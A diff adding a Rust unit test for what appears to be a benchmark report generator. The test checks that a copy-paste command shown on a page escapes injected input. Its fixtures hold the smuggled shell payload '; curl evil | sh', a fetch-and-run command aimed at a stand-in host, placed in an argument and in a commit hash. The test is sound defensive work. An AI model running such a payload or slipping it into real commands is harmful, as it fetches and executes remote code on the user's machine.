@@ -209,3 +209,19 @@ fn text_from_outside_is_escaped_everywhere() {
     assert!(!text.contains("<script>alert"));
     assert_eq!(problems(&text), Vec::<String>::new());
 }
+
+#[test]
+fn a_command_to_copy_holds_nothing_but_words_and_the_hash_of_a_commit() {
+    let mut run = runs::engines();
+    run.command.push("; curl evil | sh".to_owned());
+    let command = |run: &Run| {
+        let text = page(run);
+        let command = after(&text, "<pre class=\"command\">").to_owned();
+        command.split("</pre>").next().expect("an end").to_owned()
+    };
+    let commit = &run.lab.commit;
+    let expected = format!("git checkout {commit}\ncargo lab bench engines '; curl evil | sh'\n");
+    assert_eq!(command(&run), expected);
+    run.lab.commit = "0123; curl evil | sh".to_owned();
+    assert!(command(&run).starts_with("cargo lab "), "{}", command(&run));
+}
